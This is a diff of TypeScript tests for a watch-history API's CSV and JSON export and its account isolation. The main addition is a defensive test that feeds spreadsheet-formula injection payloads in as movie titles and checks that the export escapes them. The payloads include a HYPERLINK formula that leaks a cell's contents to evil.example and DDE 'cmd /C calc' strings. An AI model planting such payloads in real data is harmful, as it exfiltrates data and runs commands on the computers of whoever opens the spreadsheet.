+    expect(exported.map((r) => r.watched_at)).toEqual(truth.map((p) => p.watched_at));
     expectError(await call('GET', '/trakt/export/?format=xml', { token: user.access }), 400, /json, csv/);
+  });
+
+  it('neutralises titles that a spreadsheet would run as a formula (=, +, -, @, tab, CR), as OWASP advises', async () => {
+    const user = await connectedUser(sim, { ...SMALL, movies: 4, shows: 2, seed: 'export-formula' });
+    const catalog = await sim.catalog(user.traktUsername);
+    // Community-edited titles from Trakt, as the simulator serves them.
+    const formulas = {
+      movie0: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the trailer")',
+      movie1: "+cmd|' /C calc'!A0",
+      movie2: '-2+3',
+      movie3: "@SUM(1+1)*cmd|' /C calc'!A0",
+      show0: '\tTabbed =1+1',
+      show1: '\rCarriage =1+1',
+    };
+    const titles = [...Object.values(formulas)];
+    for (const [i, movie] of catalog.movies.slice(0, 4).entries())
+      await sim.renameTitle({ type: 'movie', trakt_id: movie.trakt, title: titles[i]! });
+    for (const [i, show] of catalog.shows.slice(0, 2).entries())
+      await sim.renameTitle({ type: 'show', trakt_id: show.trakt, title: titles[4 + i]! });
+    await sync(user.access);
+
+    const csv = await read(api(user.access).trakt.export.$get({ query: { format: 'csv' } }));
+    expect(csv.status).toBe(200);
+    const body = csv.body as string;
+    const rows = parseCsv(body).slice(1);
+    const exported = new Set(rows.map((r) => r[COLUMNS.indexOf('title')]!));
+    for (const title of titles) {
+      // The cell holds the title behind a leading apostrophe: text to a spreadsheet, never a formula.
+      expect(exported.has(`'${title}`), title).toBe(true);
+      expect(exported.has(title), title).toBe(false);
+      // And it is quoted, so the apostrophe and a leading tab or CR survive every CSV reader.
+      expect(body.includes(`,"'${title.replace(/"/g, '""')}",`), title).toBe(true);
+    }
+    // No exported cell of any column starts like a formula.
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Numbers and plain titles are unchanged; JSON keeps the title exactly (it is not a spreadsheet format).
+    expect(rows.every((r) => /^\d{4}-\d\d-\d\dT/.test(r[COLUMNS.indexOf('watched_at')]!))).toBe(true);
+    const json = await read(api(user.access).trakt.export.$get({ query: { format: 'json' } }));
+    const jsonRows = json.body as ExportRow[]; // a stream: its rows are typed by the contract's row schema
+    expect(jsonRows.find((r) => r.trakt === catalog.movies[0]!.trakt)!.title).toBe(formulas.movie0);
   });
 
   it('streams in keyset chunks: every D1 read is at most one chunk', async () => {
     const user = await syncedUser({ ...SMALL, movies: 2600, shows: 0, rewatch_fraction: 0 }, { tmdb: false });
-    const { result, meter } = await meterD1(() => call('GET', '/trakt/export/?format=json', { token: user.access }));
+    const { result, meter } = await meterD1(() =>
+      read(api(user.access).trakt.export.$get({ query: { format: 'json' } })),
+    );
     expect(result.body).toHaveLength(2600);
-    expect(new Set(result.body.map((r: any) => `${r.watched_at}|${r.trakt}`)).size).toBe(2600);
+    expect(new Set((result.body as ExportRow[]).map((r) => `${r.watched_at}|${r.trakt}`)).size).toBe(2600);
     const chunkReads = meter.statements.filter((s) => s.includes('from "plays"'));
     // Two walks merged: movies 2,500 + 100, episodes (none) one read.
     expect(chunkReads).toHaveLength(3);
@@ -815,10 +864,10 @@ describe('GET /trakt/export/', () => {
 
   it('an empty history exports a header only / an empty array', async () => {
     const user = await registerAndLogin();
-    expect((await call('GET', '/trakt/export/?format=csv', { token: user.access })).body).toBe(
+    expect((await read(api(user.access).trakt.export.$get({ query: { format: 'csv' } }))).body).toBe(
       `${COLUMNS.join(',')}\r\n`,
     );
-    expect((await call('GET', '/trakt/export/', { token: user.access })).body).toEqual([]);
+    expect((await read(api(user.access).trakt.export.$get({ query: {} }))).body).toEqual([]);
   });
 });
 
@@ -833,19 +882,21 @@ describe('isolation', () => {
     const aIds = new Set(aPlays.map((p) => p.id));
     expect(bPlays.some((p) => aIds.has(p.id))).toBe(false);
 
-    const bHistory = (await allPages(b.access, 'limit=100')).items;
+    const bHistory = (await allPages(b.access, { limit: '100' })).items;
     expect(bHistory.map((i) => i.id).sort()).toEqual(bPlays.map((p) => p.id).sort());
-    const aMovie = (await call('GET', '/trakt/history/?type=movies&limit=1', { token: a.access })).body.items[0];
-    expect((await call('GET', `/trakt/history/?trakt_id=${aMovie.movie.ids.trakt}`, { token: b.access })).body).toEqual(
-      { items: [], next_cursor: null },
-    );
-    const bStats = (await call('GET', '/trakt/stats/', { token: b.access })).body;
+    const aMovie = (await read(api(a.access).trakt.history.$get({ query: { type: 'movies', limit: '1' } }))).body
+      .items[0]!;
+    assert(aMovie.type === 'movie');
+    expect(
+      (await read(api(b.access).trakt.history.$get({ query: { trakt_id: String(aMovie.movie.ids.trakt) } }))).body,
+    ).toEqual({ items: [], next_cursor: null });
+    const bStats = (await read(api(b.access).trakt.stats.$get({ query: {} }))).body;
     expect(bStats.movies.plays + bStats.episodes.plays).toBe(bPlays.length);
-    const bExport = (await call('GET', '/trakt/export/', { token: b.access })).body;
+    const bExport = (await read(api(b.access).trakt.export.$get({ query: {} }))).body;
     expect(bExport).toHaveLength(bPlays.length);
-    const aTitle = aMovie.movie.title as string;
-    const bMovies = await call('GET', `/trakt/get-stored-movies/?q=${encodeURIComponent(aTitle)}`, { token: b.access });
-    expect(bMovies.body.movies.every((m: any) => m.movie.ids.trakt !== aMovie.movie.ids.trakt)).toBe(true);
+    const aTitle = aMovie.movie.title!;
+    const bMovies = await read(api(b.access).trakt['get-stored-movies'].$get({ query: { q: aTitle } }));
+    expect(bMovies.body.movies.every((m) => m.movie.ids.trakt !== aMovie.movie.ids.trakt)).toBe(true);
     for (const path of ['/trakt/history/', '/trakt/stats/', '/trakt/export/']) {
       expect((await call('GET', path)).status, path).toBe(401);
     }
@@ -853,18 +904,19 @@ describe('isolation', () => {
 
   it("a deleted account's access token gets 401 from every read endpoint, 304 path included", async () => {
     const user = await syncedUser({ ...SMALL, seed: 'iso-deleted', movies: 2, shows: 1 });
-    const showTraktId = (await call('GET', '/trakt/get-stored-shows/', { token: user.access })).body.shows[0].show.ids
-      .trakt as number;
-    const paths = CONDITIONAL_PATHS(showTraktId);
+    const showTraktId = (await read(api(user.access).trakt['get-stored-shows'].$get({ query: {} }))).body.shows[0]!.show
+      .ids.trakt;
+    const reads = CONDITIONAL_READS(showTraktId);
     const tags = new Map<string, string>();
-    for (const path of paths) {
-      const res = await call('GET', path, { token: user.access });
+    for (const [path, get] of reads) {
+      const res = await conditional(user.access, get);
       expect(res.status, path).toBe(200);
       tags.set(path, res.headers.get('ETag')!);
     }
-    const deleted = await call('DELETE', '/users/me/', { token: user.access, json: { password: user.password } });
+    const deleted = await read(api(user.access).users.me.$delete({ json: { password: user.password } }));
     expect(deleted.status).toBe(204);
-    for (const path of paths) {
+    // A deleted account's token: kept raw, on the same paths.
+    for (const [path] of reads) {
       expectError(await call('GET', path, { token: user.access }), 401, 'User no longer exists');
       expectError(
         await call('GET', path, { token: user.access, headers: { 'If-None-Match': tags.get(path)! } }),
@@ -873,7 +925,7 @@ describe('isolation', () => {
       );
     }
     expectError(
-      await call('GET', '/trakt/get-watched-seasons-episodes/?trakt_id=1', { token: user.access }),
+      await read(api(user.access).trakt['get-watched-seasons-episodes'].$get({ query: { trakt_id: '1' } })),
       401,
       'User no longer exists',
     );
